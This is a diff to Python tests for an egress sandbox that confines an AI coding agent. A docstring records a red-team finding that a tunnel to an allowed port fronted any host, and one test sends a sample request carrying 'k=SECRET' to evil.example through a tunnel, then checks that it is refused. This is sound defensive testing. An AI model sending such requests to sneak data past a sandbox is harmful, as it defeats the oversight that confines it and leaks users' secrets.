@@ -24,6 +24,7 @@ from urllib.parse import urlsplit
 import pytest
 
 from cursor_agent_action.agent.box.net.policy import build_policy
+from tests.agent.test_net_peek import client_hello
 from tests.support.netbox import PREFIX, Emit, connect_by_name, fixed_resolver, run_boxed, servers
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"),
@@ -143,7 +144,11 @@ def test_requests_for_the_allowed_name_on_a_kept_alive_connection_all_pass() -> 
     assert run.report.get("refused", []) == []
 
 
-def test_a_connect_the_proxy_accepts_opens_a_tunnel_both_ways() -> None:
+def test_a_connect_the_proxy_accepts_opens_a_tunnel_both_ways_and_what_goes_in_is_checked(
+) -> None:
+    """Inside the tunnel the agent's bytes are a new connection's to the tunnel's far end: a
+    ClientHello for that name goes through; plain HTTP for another host does not (a fourth
+    red-team round: a tunnel to an allowed port 80 fronted any host, unchecked)."""
     def tunnel_proxy(conn: socket.socket, server: Any) -> None:
         head = b""
         while b"\r\n\r\n" not in head:
@@ -151,27 +156,71 @@ def test_a_connect_the_proxy_accepts_opens_a_tunnel_both_ways() -> None:
         server.record(head)
         conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\nserver-first")
         while data := conn.recv(65536):  # then an echo: the tunnel's far end
+            server.record(data)
             conn.sendall(data)
 
+    hello = client_hello("api2.cursor.sh")
     with servers(tunnel_proxy) as (proxy,):
-        policy = build_policy([f"{PROXY}:{proxy.port}", "api2.cursor.sh"])
+        policy = build_policy([f"{PROXY}:{proxy.port}", "api2.cursor.sh", "plain.example:80"])
 
         def client(emit: Emit) -> Any:
-            with connect_by_name(PROXY, proxy.port) as sock:
-                sock.settimeout(3)
-                sock.sendall(b"CONNECT api2.cursor.sh:443 HTTP/1.1\r\nHost: api2.cursor.sh:443"
-                             b"\r\n\r\n")
-                answer = b""
-                while b"server-first" not in answer:
-                    answer += sock.recv(200)
-                # Inside the tunnel anything goes (it would be TLS to the allowed name).
-                sock.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
-                return [answer.decode(), sock.recv(200).decode()]
+            answers = []
+            for target, inside in (("api2.cursor.sh:443", hello),
+                                   ("plain.example:80", b"GET /?k=SECRET HTTP/1.1\r\nHost: "
+                                    b"evil.example\r\n\r\n")):
+                with connect_by_name(PROXY, proxy.port) as sock:
+                    sock.settimeout(3)
+                    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
+                                 .encode())
+                    answer = b""
+                    while b"server-first" not in answer:
+                        answer += sock.recv(200)
+                    sock.sendall(inside)
+                    echoed = b""
+                    try:
+                        while len(echoed) < len(inside) and (chunk := sock.recv(65536)):
+                            echoed += chunk
+                    except OSError:
+                        pass
+                    answers.append(echoed == inside)
+            return answers
 
         run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
-    answer, echoed = run.result
-    assert answer.startswith("HTTP/1.1 200 Connection established\r\n\r\nserver-first")
-    assert echoed == "CONNECT evil.example:443 HTTP/1.1\r\n\r\n"
+        time.sleep(0.2)
+        heard = bytes(proxy.received)
+    assert run.result == [True, False]
+    assert b"evil.example" not in heard
+    assert run.refused("sni-mismatch")[0]["first"] == "the connection asks for evil.example"
+
+
+def test_an_answer_that_opens_no_tunnel_reaches_the_agent_whole() -> None:
+    """A 200 to an upgrade the far end did not make (curl --http2 to an HTTP/1.1 server): the
+    answer's body too; after it the agent's side sends nothing more on that connection."""
+    def no_upgrade(conn: socket.socket, server: Any) -> None:
+        head = b""
+        while b"\r\n\r\n" not in head:
+            head += conn.recv(65536)
+        server.record(head)
+        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n0123456789")
+        while data := conn.recv(65536):
+            server.record(data)
+
+    with servers(no_upgrade) as (web,):
+        policy = build_policy([f"{PROXY}:{web.port}"])
+
+        def client(emit: Emit) -> Any:
+            with connect_by_name(PROXY, web.port) as sock:
+                sock.settimeout(3)
+                sock.sendall(b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nConnection: Upgrade, "
+                             b"HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ"
+                             b"\r\n\r\n")
+                answer = b""
+                while len(answer) < 48 and (chunk := sock.recv(200)):
+                    answer += chunk
+                return answer.decode()
+
+        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+    assert run.result.endswith("\r\n\r\n0123456789")
     assert run.report.get("refused", []) == []
 
 
